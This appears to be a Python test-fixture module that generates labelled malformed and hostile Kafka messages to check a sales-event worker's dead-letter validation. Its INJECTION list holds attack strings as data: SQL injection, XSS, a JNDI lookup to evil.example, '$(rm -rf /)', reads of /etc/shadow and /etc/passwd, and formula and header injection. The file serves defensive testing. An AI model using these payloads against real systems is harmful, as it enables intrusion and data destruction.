"""A deterministic corpus of hostile and malformed Kafka messages, each labelled with the dead-letter reason
the worker must give it (docs/events.md, "Invalid input"), plus valid events whose strings are hostile but legal.

* `make_bad_messages(seed, count, huge)` -> `[BadMessage]`: `count` messages spread evenly over CATEGORIES
  (invalid UTF-8, truncated JSON, deep nesting, oversize, wrong types, NaN/Infinity, huge numbers, negative
  and absurd amounts, year 1 / 9999 and other bad timestamps, future timestamps, unknown types, missing keys,
  injection-like strings, control characters, non-objects, empty values and tombstones, wrong
  currency/stage/topic), plus `huge` oversize messages from 256 KiB up to the largest value the 1 MiB
  topics accept (MAX_VALUE_BYTES). Every message carries the reason it must be dead-lettered with.
* `with_hostile_valid_events(log, seed)` -> the valid log with extra *valid* events interleaved whose ids,
  names and teams are injection-like strings, escaped control characters, bidi overrides, emoji, maximum
  lengths; their amounts and timestamps use legal but unusual spellings. They must be counted exactly.
* `interleave(valid, bad, seed)` -> one arrival order: the valid log keeps its order, bad messages are
  scattered through it.

Like the batch oracle, this module imports nothing from `stream`: the labels are an independent statement
of the contract, and tests/oracle/test_hostile_corpus.py checks the validator agrees with every one.
"""

from __future__ import annotations

import copy
import json
import random
from dataclasses import dataclass
from datetime import datetime, timedelta, timezone

import orjson

MAX_EVENT_BYTES = 64 * 1024  # a message over 64 KiB is dead-lettered `oversize`
TOPIC_MAX_MESSAGE_BYTES = 1024 * 1024  # max.message.bytes of the topics (stream/local/stack.py)
# The largest unkeyed value a 1 MiB topic accepts: one record batch is a 61-byte header plus the record
# (length 3, attributes 1, timestamp delta 1, offset delta 1, key length 1, value length 3, header count 1).
# Checked against the real broker by tests/integration/test_hostile_input.py.
MAX_VALUE_BYTES = TOPIC_MAX_MESSAGE_BYTES - 61 - 11

TOPIC_OF_TYPE = {
    "lead.created": "leads", "lead.assigned": "leads", "lead.touched": "leads", "meeting.booked": "leads",
    "lead.qualified": "leads", "lead.disqualified": "leads", "call.logged": "calls",
    "deal.created": "deals", "deal.stage_changed": "deals", "deal.won": "deals", "deal.lost": "deals",
    "spend.recorded": "spend",
    "subscription.started": "subscriptions", "subscription.changed": "subscriptions",
    "subscription.cancelled": "subscriptions", "forecast.submitted": "forecasts",
}
# Required fields beyond event_id/type/occurred_at, per type (docs/events.md).
REQUIRED = {
    "lead.created": ("lead_id",), "lead.assigned": ("lead_id", "rep_id"),
    "lead.touched": ("lead_id", "rep_id", "channel"), "meeting.booked": ("lead_id", "rep_id"),
    "lead.qualified": ("lead_id", "rep_id"), "lead.disqualified": ("lead_id",),
    "call.logged": ("call_id", "rep_id", "direction", "outcome", "duration_s"),
    "deal.created": ("deal_id", "rep_id", "amount", "stage"), "deal.stage_changed": ("deal_id", "to_stage"),
    "deal.won": ("deal_id",), "deal.lost": ("deal_id",),
    "subscription.started": ("account_id", "mrr"), "subscription.changed": ("account_id", "mrr"),
    "subscription.cancelled": ("account_id",), "forecast.submitted": ("rep_id", "period", "amount"),
}
TEMPLATES = {
    "lead.created": {"lead_id": "L", "rep_id": "ana", "source": "webform"},
    "lead.assigned": {"lead_id": "L", "rep_id": "ben"},
    "lead.touched": {"lead_id": "L", "rep_id": "ben", "channel": "email"},
    "meeting.booked": {"lead_id": "L", "rep_id": "ben"},
    "lead.qualified": {"lead_id": "L", "rep_id": "ben"},
    "lead.disqualified": {"lead_id": "L", "reason": "no budget"},
    "call.logged": {"call_id": "C", "rep_id": "cal", "lead_id": "L", "direction": "outbound", "outcome": "connected",
                    "duration_s": 184.5},
    "deal.created": {"deal_id": "D", "rep_id": "dee", "amount": 12000, "stage": "prospecting", "currency": "USD"},
    "deal.stage_changed": {"deal_id": "D", "to_stage": "proposal", "amount": "12500.00"},
    "deal.won": {"deal_id": "D", "amount": 12500.5},
    "deal.lost": {"deal_id": "D", "reason": "price"},
}
AMOUNT_TYPES = ("deal.created", "deal.stage_changed", "deal.won")
# Inside the messy log's span, so a bad message that were wrongly accepted would visibly change the KPIs.
BAD_AT = "2026-11-01T12:00:00.000Z"

INJECTION = (
    "'; DROP TABLE leads; --", "\" OR \"1\"=\"1", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%s%s%n", "../../../../etc/passwd", "$(rm -rf /)", "`id`",
    "| cat /etc/shadow", "admin'--", "{\"$gt\": \"\"}", "=cmd|' /C calc'!A0", "\\\\evil\\share", "-- ; --",
    "rep\nX-Injected: header", "lead\r\nSet-Cookie: a=b", "@everyone", "<!--#exec cmd=\"ls\"-->",
)
# Control characters a producer could put in a JSON string (as \\u escapes) or, illegally, as raw bytes.
CONTROL = "".join(chr(c) for c in range(0x20)) + "\x7f\x85\u2028\u2029\u202e\u200b\ufeff"


@dataclass(frozen=True)
class BadMessage:
    topic: str  # topic suffix: leads, calls or deals
    key: bytes | None
    value: bytes | None  # None: a tombstone (the worker reads it as an empty message)
    reason: str  # the dead-letter reason the worker must give
    category: str  # which kind of hostile input it is (CATEGORIES)


class _Gen:
    """One generator state: the RNG and a counter that makes every event_id and entity id unique."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.n = 0

    def doc(self, etype: str | None = None) -> tuple[str, dict]:
        """A valid event (as a dict) of a random or given type, with fresh ids."""
        etype = etype or self.rng.choice(sorted(TEMPLATES))
        self.n += 1
        doc = {"event_id": f"bad-{self.n:06d}", "type": etype, "occurred_at": BAD_AT, **copy.deepcopy(TEMPLATES[etype])}
        for field in ("lead_id", "call_id", "deal_id"):
            if field in doc:
                doc[field] = f"{field[0].upper()}bad-{self.n:06d}"
        return etype, doc

    def key(self) -> bytes | None:
        r = self.rng.random()
        if r < 0.15:
            return None
        if r < 0.2:
            return bytes(self.rng.randrange(256) for _ in range(self.rng.randint(1, 40)))  # binary key
        if r < 0.25:
            return self.rng.choice(INJECTION).encode()
        return f"K{self.n:06d}".encode()

    def message(self, category: str, topic: str, value: bytes | None, reason: str) -> BadMessage:
        return BadMessage(topic, self.key(), value, reason, category)

    def event_message(self, category: str, etype: str, doc: dict | bytes, reason: str, topic: str | None = None) -> BadMessage:
        value = doc if isinstance(doc, bytes) else orjson.dumps(doc)
        return self.message(category, topic or TOPIC_OF_TYPE[etype], value, reason)


def _with_raw(doc: dict, field: str, raw: bytes) -> bytes:
    """The doc as JSON with `field` set to raw bytes (NaN, 1e400, invalid UTF-8: what a JSON encoder won't write)."""
    doc = dict(doc)
    doc[field] = "@@RAW@@"
    return orjson.dumps(doc).replace(b'"@@RAW@@"', raw, 1)


def _nest(depth: int, kind: str) -> bytes:
    return b"[" * depth + b"]" * depth if kind == "array" else b'{"a":' * depth + b"0" + b"}" * depth


# --------------------------------------------------------------------------------------- categories --
def _invalid_utf8(g: _Gen) -> BadMessage:
    etype, doc = g.doc()
    bad = g.rng.choice([b"\xff", b"\xfe\xff", b"\xc3\x28", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80",
                        b"\xe2\x82", b"\x80", b"caf\xe9"])
    where = g.rng.randrange(5)
    if where == 0:  # in a field the decoder reads
        value = _with_raw(doc, "event_id", b'"' + bad + b'"')
    elif where == 1:  # in an unknown extra field, which the decoder only skips
        value = _with_raw(doc, "note", b'"ok ' + bad + b'"')
    elif where == 2:  # in a key of the object
        value = orjson.dumps(doc)[:-1] + b',"' + bad + b'":1}'
    elif where == 3:  # the whole message in another encoding
        doc["rep_id"] = "José Müller"
        value = json.dumps(doc, ensure_ascii=False).encode(g.rng.choice(["latin-1", "utf-16", "utf-32", "cp1252"]))
    else:  # binary garbage
        value = bytes(g.rng.randrange(256) for _ in range(g.rng.randint(1, 300))) + b"\xff"
    return g.event_message("invalid_utf8", etype, value, "not_json")


def _truncated_json(g: _Gen) -> BadMessage:
    etype, doc = g.doc()
    whole = orjson.dumps(doc)
    return g.event_message("truncated_json", etype, whole[: g.rng.randrange(1, len(whole))], "not_json")


def _deeply_nested(g: _Gen) -> BadMessage:
    etype, doc = g.doc()
    # Deeper than Python's recursion limit (1000) wherever the decoder runs, and within 64 KiB.
    kind = g.rng.choice(["array", "object"])
    depth = g.rng.randint(1_500, 30_000 if kind == "array" else 10_000)
    if g.rng.random() < 0.2:  # the whole message one deep array: too deep to read, before it is not an object
        return g.event_message("deeply_nested", etype, _nest(depth, "array"), "not_json")
    return g.event_message("deeply_nested", etype, _with_raw(doc, "extra", _nest(depth, kind)), "not_json")


def _oversize(g: _Gen, size: int | None = None) -> BadMessage:
    etype, doc = g.doc()
    size = size or g.rng.randint(MAX_EVENT_BYTES + 1, MAX_EVENT_BYTES + 16 * 1024)
    if g.rng.random() < 0.8:  # a valid event padded past the limit: refused on size alone
        head = orjson.dumps({**doc, "pad": ""})[:-2]
        value = head + b"x" * (size - len(head) - 2) + b'"}'
    else:
        value = bytes(g.rng.randrange(256) for _ in range(64)) * (size // 64 + 1)
        value = value[:size]
    assert len(value) == size
    return g.event_message("oversize", etype, value, "oversize")


# Wrong JSON types per field (never null where null means "absent" for an optional field), and the verdict.
_WRONG = {
    "type": ([17, True, [], {"t": 1}, None, ""], "unknown_type"),
    "occurred_at": ([17, -3.5, True, [], {"ts": 1}, None, ""], "bad_timestamp"),
    "event_id": ([17, -3.5, True, [], ["x"], {}, None, ""], "invalid_field"),
    "rep_id": ([17, True, [], {"id": "ana"}, ""], "invalid_field"),
    "team": ([17, False, ["red"], {}, ""], "invalid_field"),
    "lead_id": ([17, True, [], {"id": 1}, None, ""], "invalid_field"),
    "call_id": ([17, True, [], {}, None, ""], "invalid_field"),
    "deal_id": ([17, True, [], {}, None, ""], "invalid_field"),
    "channel": ([1, True, [], {}, None, "", "EMAIL", "fax"], "invalid_field"),
    "direction": ([0, False, [], None, "", "sideways"], "invalid_field"),
    "outcome": ([0, True, {}, None, "", "hung_up"], "invalid_field"),
    "duration_s": (["12", "NaN", True, [], {}, None, -1, -0.001, 86_400.001], "invalid_field"),
    "amount": ([True, False, [], [12], {}, "twelve", ""], "invalid_field"),
    "stage": ([17, True, [], {}, None], "invalid_field"),
    "to_stage": ([17, True, [], {}, None], "invalid_field"),
}


def _wrong_types(g: _Gen) -> BadMessage:
    etype, doc = g.doc()
    field = g.rng.choice([f for f in ("event_id", "type", "occurred_at", "team", *REQUIRED[etype]) if f in _WRONG])
    values, reason = _WRONG[field]
    doc[field] = g.rng.choice(values)
    return g.event_message("wrong_types", etype, doc, reason, topic=TOPIC_OF_TYPE[etype])


def _nan_infinity(g: _Gen) -> BadMessage:
    literal = g.rng.choice([b"NaN", b"Infinity", b"-Infinity", b"nan", b"inf", b"-inf"])
    r = g.rng.random()
    if r < 0.4:  # JSON has no NaN or Infinity literal: not JSON at all
        etype, doc = g.doc(g.rng.choice(["call.logged", "deal.won", "deal.created"]))
        field = "duration_s" if etype == "call.logged" else "amount"
        return g.event_message("nan_infinity", etype, _with_raw(doc, field, literal), "not_json")
    if r < 0.8:  # as a decimal string, the amount is parsed and found not finite
        etype, doc = g.doc(g.rng.choice(AMOUNT_TYPES))
        doc["amount"] = g.rng.choice(["NaN", "Infinity", "-Infinity", "sNaN", "inf", "-nan", "Inf"])
        return g.event_message("nan_infinity", etype, doc, "invalid_amount")
    etype, doc = g.doc("call.logged")  # duration_s is a number, never a string
    doc["duration_s"] = literal.decode()
    return g.event_message("nan_infinity", etype, doc, "invalid_field")


def _huge_numbers(g: _Gen) -> BadMessage:
    digits = g.rng.randint(20, 20_000)
    huge = b"9" * digits if g.rng.random() < 0.5 else b"1e" + str(g.rng.randint(309, 10**9)).encode()
    r = g.rng.randrange(4)
    if r == 0:
        etype, doc = g.doc("call.logged")
        return g.event_message("huge_numbers", etype, _with_raw(doc, "duration_s", huge), "invalid_field")
    if r == 1:
        etype, doc = g.doc(g.rng.choice(AMOUNT_TYPES))
        return g.event_message("huge_numbers", etype, _with_raw(doc, "amount", huge), "invalid_amount")
    if r == 2:
        etype, doc = g.doc()
        field = g.rng.choice(["event_id", "rep_id", "team"])
        return g.event_message("huge_numbers", etype, _with_raw(doc, field, huge), "invalid_field")
    etype, doc = g.doc()
    return g.event_message("huge_numbers", etype, _with_raw(doc, "occurred_at", huge), "bad_timestamp")


def _negative_amounts(g: _Gen) -> BadMessage:
    etype, doc = g.doc(g.rng.choice(AMOUNT_TYPES))
    doc["amount"] = g.rng.choice([-1, -0.01, -12500.5, -(10**15), "-0.01", "-5", "-1E+3", -1e-5])
    return g.event_message("negative_amounts", etype, doc, "negative_amount")


def _absurd_amounts(g: _Gen) -> BadMessage:
    etype, doc = g.doc(g.rng.choice(AMOUNT_TYPES))
    value, reason = g.rng.choice([
        (b"1e16", "invalid_amount"), (b"10000000000000000", "invalid_amount"), (b"9.99e300", "invalid_amount"),
        (b'"1e20"', "invalid_amount"), (b"1e-999999999", "invalid_amount"), (b'"0.000000000000000000001"', "invalid_amount"),
        (b"-1e400", "invalid_amount"), (b'"1_000"', "invalid_field"), (b'" 12 "', "invalid_field"),
        (b'"+5"', "invalid_field"), (b'"\\u0661\\u0662"', "invalid_field"), (b'"12,50"', "invalid_field"),
        (b'"$12"', "invalid_field"), (b'"0x10"', "invalid_field"), (b"true", "invalid_field"), (b"[12]", "invalid_field"),
        (b'{"value": 12}', "invalid_field"),
    ])
    return g.event_message("absurd_amounts", etype, _with_raw(doc, "amount", value), reason)


BAD_TIMESTAMPS = (
    "0001-01-01T00:00:00Z", "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59.999Z", "9999-12-31T23:59:59-23:59",
    "1989-12-31T23:59:59.999Z", "2200-01-01T00:00:00Z", "1970-01-01T00:00:00Z", "2026-13-01T00:00:00Z",
    "2026-02-30T10:00:00Z", "2026-11-20T24:00:01Z", "2026-11-20T09:15:61Z", "2026-11-20T09:15:02",
    "2026-11-20", "09:15:02Z", "2026-11-20T09:15:02+25:00", "yesterday", "", "now", "2026-11-20T09:15:02.123 Z",
    "2026/11/20 09:15:02", "+002026-11-20T09:15:02Z", "Fri, 20 Nov 2026 09:15:02 GMT",
)


def _bad_timestamps(g: _Gen) -> BadMessage:
    etype, doc = g.doc()
    doc["occurred_at"] = g.rng.choice(BAD_TIMESTAMPS + (1_763_630_102, 1_763_630_102_123, None, [], {"ts": 1}))
    if doc["occurred_at"] is None and g.rng.random() < 0.5:
        del doc["occurred_at"]
        return g.event_message("bad_timestamps", etype, doc, "missing_field")
    return g.event_message("bad_timestamps", etype, doc, "bad_timestamp")


def _future_timestamps(g: _Gen) -> BadMessage:
    # Far enough ahead of any wall clock this test suite will run under, and before the 2200 sanity bound.
    etype, doc = g.doc()
    doc["occurred_at"] = g.rng.choice(["2150-01-01T00:00:00Z", "2199-12-31T23:59:59.999Z", "2199-12-31T23:59:59+14:00",
                                       "2100-06-15T12:00:00.000-12:00"])
    return g.event_message("future_timestamps", etype, doc, "future")


def _unknown_types(g: _Gen) -> BadMessage:
    etype, doc = g.doc()
    doc["type"] = g.rng.choice([
        "lead.deleted", "Lead.Created", "LEAD.CREATED", "lead.created ", " deal.won", "lead_created", "deal.won.extra",
        "lеad.created",  # a Cyrillic "е"
        "deal.wоn",  # a Cyrillic "о"
        "", "lead.", "*", "lead.created\u0000", "call.logged\n", "deal.won\u200b", *INJECTION,
    ])
    if g.rng.random() < 0.15:
        del doc["type"]
    return g.event_message("unknown_types", etype, doc, "unknown_type", topic=TOPIC_OF_TYPE[etype])


def _missing_keys(g: _Gen) -> BadMessage:
    etype, doc = g.doc()
    field = g.rng.choice(["event_id", "occurred_at", "type", *REQUIRED[etype]])
    del doc[field]
    if g.rng.random() < 0.3:  # and something else absent too: still one verdict
        for other in ("team", "source", "reason", "product"):
            doc.pop(other, None)
    return g.event_message("missing_keys", etype, doc, "unknown_type" if field == "type" else "missing_field",
                           topic=TOPIC_OF_TYPE[etype])


def _injection_strings(g: _Gen) -> BadMessage:
    evil = g.rng.choice(INJECTION)
    r = g.rng.randrange(6)
    if r == 0:
        etype, doc = g.doc("deal.created")
        doc["stage"] = evil
        return g.event_message("injection_strings", etype, doc, "unknown_stage")
    if r == 1:
        etype, doc = g.doc(g.rng.choice(AMOUNT_TYPES))
        doc["currency"] = evil
        return g.event_message("injection_strings", etype, doc, "wrong_currency")
    if r == 2:
        etype, doc = g.doc("lead.touched")
        doc["channel"] = evil
        return g.event_message("injection_strings", etype, doc, "invalid_field")
    if r == 3:  # too long for an id: repeated until past 128 characters
        etype, doc = g.doc()
        doc[g.rng.choice(["event_id", *[f for f in ("lead_id", "call_id", "deal_id") if f in doc]])] = (evil * 130)[:129 + g.rng.randrange(500)]
        return g.event_message("injection_strings", etype, doc, "invalid_field")
    if r == 4:
        etype, doc = g.doc(g.rng.choice(AMOUNT_TYPES))
        doc["amount"] = evil
        return g.event_message("injection_strings", etype, doc, "invalid_field")
    etype, doc = g.doc()
    doc["occurred_at"] = evil
    return g.event_message("injection_strings", etype, doc, "bad_timestamp")


def _control_characters(g: _Gen) -> BadMessage:
    etype, doc = g.doc()
    c = g.rng.choice(CONTROL[:0x20])  # C0 controls: never allowed raw inside a JSON string
    r = g.rng.randrange(5)
    if r == 0:  # raw in a string
        field = g.rng.choice(["event_id", "note"])
        return g.event_message("control_characters", etype, _with_raw(doc, field, b'"a' + c.encode() + b'b"'), "not_json")
    if r == 1:  # raw between tokens, where only space, tab, CR and LF are allowed
        c = g.rng.choice([x for x in CONTROL[:0x20] if x not in "\t\n\r"])
        whole = orjson.dumps(doc)
        at = whole.index(b",")
        return g.event_message("control_characters", etype, whole[:at] + c.encode() + whole[at:], "not_json")
    if r == 2:  # a NUL-terminated C string, or a byte-order mark in front
        whole = orjson.dumps(doc)
        return g.event_message("control_characters", etype, g.rng.choice([whole + b"\x00", b"\xef\xbb\xbf" + whole]), "not_json")
    if r == 3:  # escaped, in a field with a closed set of values
        doc["type"] = g.rng.choice(sorted(TEMPLATES)) + g.rng.choice(CONTROL)
        return g.event_message("control_characters", etype, doc, "unknown_type", topic=TOPIC_OF_TYPE[etype])
    etype, doc = g.doc(g.rng.choice(AMOUNT_TYPES))
    doc["currency"] = "US" + g.rng.choice(CONTROL) + "D"
    return g.event_message("control_characters", etype, doc, "wrong_currency")


def _not_objects(g: _Gen) -> BadMessage:
    etype, doc = g.doc()
    value = g.rng.choice([
        b"[]", b"[1, 2, 3]", orjson.dumps([doc]), b'"lead.created"', b"42", b"-1.5e3", b"null", b"true", b"false",
        orjson.dumps(json.dumps(doc)),  # an event JSON-encoded twice: a string
        b" [ ] ", _nest(300, "array"),
    ])
    return g.event_message("not_objects", etype, value, "not_object")


def _empty_and_tombstones(g: _Gen) -> BadMessage:
    etype, _ = g.doc()
    value = g.rng.choice([None, b"", b" ", b"\n", b"\r\n\t ", b"{", b"}", b"{}}", b"{{}", b"{,}", b'{"a"}', b"{'a': 1}",
                          b"undefined", b"None"])
    message = g.message("empty_and_tombstones", TOPIC_OF_TYPE[etype], value, "not_json")
    if value is None and message.key is None:  # Kafka: a tombstone is a key with a null value
        message = BadMessage(message.topic, f"K{g.n:06d}".encode(), None, message.reason, message.category)
    return message


def _wrong_currency_stage_topic(g: _Gen) -> BadMessage:
    r = g.rng.randrange(3)
    if r == 0:
        etype, doc = g.doc(g.rng.choice(AMOUNT_TYPES))
        doc["currency"] = g.rng.choice(["EUR", "usd", "GBP", "", "USD ", "US$", "840"])
        return g.event_message("wrong_currency_stage_topic", etype, doc, "wrong_currency")
    if r == 1:
        etype, doc = g.doc(g.rng.choice(["deal.created", "deal.stage_changed"]))
        doc["stage" if etype == "deal.created" else "to_stage"] = g.rng.choice(
            ["won", "lost", "closed_won", "Proposal", "PROSPECTING", " proposal", "negotiation\t"])
        return g.event_message("wrong_currency_stage_topic", etype, doc, "unknown_stage")
    etype, doc = g.doc()
    wrong = g.rng.choice([t for t in ("leads", "calls", "deals") if t != TOPIC_OF_TYPE[etype]])
    return g.event_message("wrong_currency_stage_topic", etype, doc, "wrong_topic", topic=wrong)


def _bad_revenue_fields(g: _Gen) -> BadMessage:
    """The revenue and marketing fields (docs/events.md): a bad deal kind or term, a bad spend."""
    r = g.rng.randrange(4)
    if r == 0:
        etype, doc = g.doc("deal.created")
        doc["kind"] = g.rng.choice(["upsell", "New", "", "churn", 3, True])
        return g.event_message("bad_revenue_fields", etype, doc, "unknown_kind")
    if r == 1:
        etype, doc = g.doc(g.rng.choice(["deal.created", "deal.won"]))
        doc["term_months"] = g.rng.choice([0, 121, -12, 6.5, 10**9, "12", True])
        return g.event_message("bad_revenue_fields", etype, doc, "invalid_term")
    g.n += 1
    doc = {"event_id": f"bad-{g.n:06d}", "type": "spend.recorded", "occurred_at": BAD_AT, "channel": "paid_search",
           "amount": 120}
    if r == 2:
        doc["amount"] = g.rng.choice([-1, "-0.01", -1e6])
        return g.event_message("bad_revenue_fields", "spend.recorded", doc, "negative_amount")
    del doc["channel"]
    return g.event_message("bad_revenue_fields", "spend.recorded", doc, "missing_field")


CUSTOMER_TEMPLATES = {
    "subscription.started": {"account_id": "A", "mrr": 490, "rep_id": "ana", "product": "pro"},
    "subscription.changed": {"account_id": "A", "mrr": "640.00"},
    "subscription.cancelled": {"account_id": "A", "reason": "budget"},
    "forecast.submitted": {"rep_id": "ana", "period": "2026-11", "amount": 45000},
}


def _customer_inputs(g: _Gen) -> BadMessage:
    """Subscriptions and forecasts: a malformed period, a negative MRR, a cancellation without account_id."""
    g.n += 1
    r = g.rng.randrange(3)
    etype = ("forecast.submitted", g.rng.choice(["subscription.started", "subscription.changed"]),
             "subscription.cancelled")[r]
    doc = {"event_id": f"bad-{g.n:06d}", "type": etype, "occurred_at": BAD_AT, **copy.deepcopy(CUSTOMER_TEMPLATES[etype])}
    if r == 0:
        doc["period"] = g.rng.choice(["2026-13", "2026-00", "2026-1", "26-11", "2026/11", "2026-11-01", "", "Nov 2026",
                                      "1989-12", "2200-01", 202611, None, ["2026-11"]])
        reason = "invalid_period"
    elif r == 1:
        doc["mrr"] = g.rng.choice([-1, -0.01, "-490", -1e-5])
        reason = "negative_amount"
    else:
        del doc["account_id"]
        reason = "missing_field"
    return g.event_message("customer_inputs", etype, doc, reason)


CATEGORIES = {
    "invalid_utf8": _invalid_utf8,
    "truncated_json": _truncated_json,
    "deeply_nested": _deeply_nested,
    "oversize": _oversize,
    "wrong_types": _wrong_types,
    "nan_infinity": _nan_infinity,
    "huge_numbers": _huge_numbers,
    "negative_amounts": _negative_amounts,
    "absurd_amounts": _absurd_amounts,
    "bad_timestamps": _bad_timestamps,
    "future_timestamps": _future_timestamps,
    "unknown_types": _unknown_types,
    "missing_keys": _missing_keys,
    "injection_strings": _injection_strings,
    "control_characters": _control_characters,
    "not_objects": _not_objects,
    "empty_and_tombstones": _empty_and_tombstones,
    "wrong_currency_stage_topic": _wrong_currency_stage_topic,
    "bad_revenue_fields": _bad_revenue_fields,
    "customer_inputs": _customer_inputs,
}
# Messages of these categories are 2-64 KiB (or more): fewer of them keep the corpus quick to produce.
_HEAVY = {"deeply_nested": 0.25, "oversize": 0.1}


def huge_sizes(count: int) -> list[int]:
    """`count` sizes from 256 KiB up to MAX_VALUE_BYTES; the largest two are the maximum itself."""
    if count <= 0:
        return []
    sizes = [MAX_VALUE_BYTES] * min(count, 2)
    steps = count - len(sizes)
    sizes += [256 * 1024 + (MAX_VALUE_BYTES - 256 * 1024) * i // max(1, steps) for i in range(steps)]
    return sorted(sizes)


def make_bad_messages(seed: int, count: int = 10_000, huge: int = 4) -> list[BadMessage]:
    """`count` bad messages spread over CATEGORIES, plus `huge` oversize ones of 256 KiB-1 MiB, shuffled."""
    g = _Gen(seed)
    weights = {name: _HEAVY.get(name, 1.0) for name in CATEGORIES}
    total_weight = sum(weights.values())
    quota = {name: int(count * w / total_weight) for name, w in weights.items()}
    quota["truncated_json"] += count - sum(quota.values())  # rounding remainder
    messages = [CATEGORIES[name](g) for name, n in quota.items() for _ in range(n)]
    for size in huge_sizes(huge):
        big = _oversize(g, size)
        messages.append(BadMessage(big.topic, None, big.value, "oversize", "oversize"))  # unkeyed: the largest fits
    g.rng.shuffle(messages)
    return messages


# ------------------------------------------------------------------------------ hostile valid events --
HOSTILE_NAMES = (
    *INJECTION[:12],
    "a\u0000b", "tab\there", "bell\u0007", "esc\u001b[31mred\u001b[0m", "del\u007f", "line\u2028sep",
    "rtl\u202eevil", "zero\u200bwidth", "bom\ufeff", "名前-🙂-ünïcødé", "😀" * 64, " ", "r" * 64,
)


def _legal_spellings(at: str, rng: random.Random) -> str:
    """The same instant as `at` (…Z), written with another offset or precision, as RFC 3339 allows."""
    dt = datetime.fromisoformat(at.replace("Z", "+00:00"))
    offset = rng.choice([timedelta(hours=14), timedelta(hours=-12), timedelta(hours=5, minutes=45), timedelta(0)])
    text = dt.astimezone(timezone(offset)).isoformat(timespec=rng.choice(["milliseconds", "microseconds"]))
    return text.replace("+00:00", rng.choice(["Z", "+00:00", "z"]))


def with_hostile_valid_events(log: list[tuple[str, str, dict]], seed: int, every: int = 10) -> list[tuple[str, str, dict]]:
    """`log` with a valid event of a new entity after every `every`-th event: its ids, rep and team are
    hostile strings; it takes the occurred_at of the event before it (so the too-late verdicts of the log
    stay what they were) in another legal spelling. Leads get a touch, deals are won with odd amounts."""
    rng = random.Random(seed)
    out: list[tuple[str, str, dict]] = []
    n = 0
    i = -1
    for topic, key, event in log:
        out.append((topic, key, event))
        if topic not in ("leads", "calls", "deals", "spend"):
            continue  # the customers' events are placed as before them (they are merged into the log by arrival)
        i += 1
        if i % every != every - 1 or "-toolate-" in event["event_id"]:
            continue  # (a too-late event's time would make the new entity too late as well)
        n += 1
        name = HOSTILE_NAMES[n % len(HOSTILE_NAMES)]
        # A few reps per name, each with several events; a 64-character name is a rep id of the maximum length.
        variant = 0 if len(name) >= 64 else n % 3
        rep = name if len(name) >= 64 else f"{name}#{variant}"
        # A rep's events all carry the same team, or none (then it is `unassigned`: not on the roster).
        team = HOSTILE_NAMES[(n + variant * 5) % len(HOSTILE_NAMES)][:64] if variant else None
        at = _legal_spellings(event["occurred_at"], rng)
        eid = (f"hv-{n:05d}-" + name)[:128]
        common = {"occurred_at": at, "rep_id": rep}
        if team is not None:
            common["team"] = team
        if rng.random() < 0.3:
            common["x-extra"] = {"nested": [[[[{"deep": list(range(3))}]]]] * 3, "note": name}  # ignored
        kind = n % 3
        if kind == 0:
            lead_id = (f"L-{n}-" + name)[:128]
            out.append(("leads", lead_id, {"event_id": eid, "type": "lead.created", "lead_id": lead_id, **common}))
            out.append(("leads", lead_id, {"event_id": eid + "t", "type": "lead.touched", "lead_id": lead_id,
                                           "channel": rng.choice(["email", "sms", "chat", "social", "other"]), **common}))
        elif kind == 1:
            call_id = (f"C-{n}-" + name)[:128]
            out.append(("calls", call_id, {"event_id": eid, "type": "call.logged", "call_id": call_id, "direction": "inbound",
                                           "outcome": rng.choice(["connected", "busy"]), "duration_s": rng.choice([0, 0.001, 86_400, 59.99]),
                                           **common}))
        else:
            deal_id = (f"D-{n}-" + name)[:128]
            amount = rng.choice(["0.10", "1E+3", 1e-7, "9999999999999999.99", 0, "-0", ".5", "00012.50", 1.5e3,
                                 "0.30000000000000004", "12.345678901234567890"])
            out.append(("deals", deal_id, {"event_id": eid, "type": "deal.created", "deal_id": deal_id, "amount": amount,
                                           "stage": "proposal", "currency": "USD", "product": name, **common}))
            out.append(("deals", deal_id, {"event_id": eid + "w", "type": "deal.won", "deal_id": deal_id, **common}))
    return out


def interleave(valid: list, bad: list[BadMessage], seed: int) -> list[tuple[str, object]]:
    """One arrival order: ("valid", (topic, key, event)) in the valid log's order, ("bad", BadMessage) scattered."""
    rng = random.Random(seed)
    slots = sorted(rng.randrange(len(valid) + 1) for _ in bad)
    out: list[tuple[str, object]] = []
    b = 0
    for i, item in enumerate(valid):
        while b < len(slots) and slots[b] == i:
            out.append(("bad", bad[b]))
            b += 1
        out.append(("valid", item))
    out.extend(("bad", m) for m in bad[b:])
    return out
